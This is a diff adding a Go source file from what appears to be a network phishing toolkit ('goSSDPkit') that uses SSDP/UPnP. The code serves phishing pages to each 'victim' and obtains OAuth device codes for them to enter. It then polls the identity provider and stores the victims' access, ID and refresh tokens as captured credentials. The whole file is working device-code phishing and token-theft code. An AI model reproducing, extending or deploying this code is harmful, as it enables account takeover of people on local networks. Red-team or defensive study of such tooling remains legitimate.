@@ -0,0 +1,102 @@
+package upnp
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"net/url"
+	"time"
+
+	"goSSDPkit/pkg/devicecode"
+	"goSSDPkit/pkg/events"
+	"goSSDPkit/pkg/ssdp"
+	"goSSDPkit/pkg/template"
+)
+
+// deviceCodeMargin is how long a host's device code must still be valid to
+// be shown again rather than replaced, leaving time to enter it
+const deviceCodeMargin = 2 * time.Minute
+
+// pageManager returns the manager rendering a phishing page for the client
+// of r, with its template variables and its device code when the template
+// uses them
+func (s *Server) pageManager(site *site, r *http.Request) (*template.Manager, error) {
+	victim := s.victim(r)
+	manager := site.templateManager.ForVictim(victim)
+	if values := s.vars(r.Context(), site, victim); values != nil {
+		manager = manager.ForVars(values)
+	}
+	if site.deviceCode == nil {
+		return manager, nil
+	}
+	code, err := s.deviceCodeFor(r, site.deviceCode)
+	if err != nil {
+		return nil, err
+	}
+	return manager.ForDeviceCode(template.DeviceCode{
+		UserCode:        code.UserCode,
+		VerificationURI: code.VerificationURI,
+		Message:         code.Message,
+		Expires:         code.Expires,
+	}), nil
+}
+
+// deviceCodeFor returns the device code issued for the client of r, asking
+// client for one and polling for its tokens if the client has none yet or
+// its code is about to expire
+func (s *Server) deviceCodeFor(r *http.Request, client *devicecode.Client) (*devicecode.Code, error) {
+	host := s.getClientIP(r)
+	s.codesMu.Lock()
+	code, ok := s.deviceCodes[host]
+	s.codesMu.Unlock()
+	if ok && time.Until(code.Expires) > deviceCodeMargin {
+		return code, nil
+	}
+
+	code, err := client.Request(r.Context())
+	if err != nil {
+		return nil, err
+	}
+	s.codesMu.Lock()
+	if s.deviceCodes == nil {
+		s.deviceCodes = make(map[string]*devicecode.Code)
+	}
+	s.deviceCodes[host] = code
+	s.codesMu.Unlock()
+
+	s.log("%sHost: %s, device code %s issued, waiting for it to be entered at %s", ssdp.NoteBox, host, code.UserCode, code.VerificationURI)
+	go s.pollDeviceCode(s.newRequest(r), client, code)
+	return code, nil
+}
+
+// pollDeviceCode waits for the victim to enter code and raises the tokens
+// issued for it as credentials
+func (s *Server) pollDeviceCode(req events.Request, client *devicecode.Client, code *devicecode.Code) {
+	token, err := client.Poll(s.polls, code)
+	s.codesMu.Lock()
+	if s.deviceCodes[req.Host] == code {
+		delete(s.deviceCodes, req.Host)
+	}
+	s.codesMu.Unlock()
+	if err != nil {
+		if !errors.Is(err, context.Canceled) {
+			s.log("%sHost: %s, device code %s: %v", ssdp.NoteBox, req.Host, code.UserCode, err)
+		}
+		return
+	}
+
+	extra := url.Values{}
+	for key, value := range map[string]string{"access_token": token.AccessToken, "id_token": token.IDToken, "scope": token.Scope} {
+		if value != "" {
+			extra.Set(key, value)
+		}
+	}
+	req.Time = time.Now()
+	s.captured(events.Credentials{
+		Request:  req,
+		Source:   events.SourceDevice,
+		Username: token.Identity(),
+		Password: token.RefreshToken,
+		Extra:    extra,
+	})
+}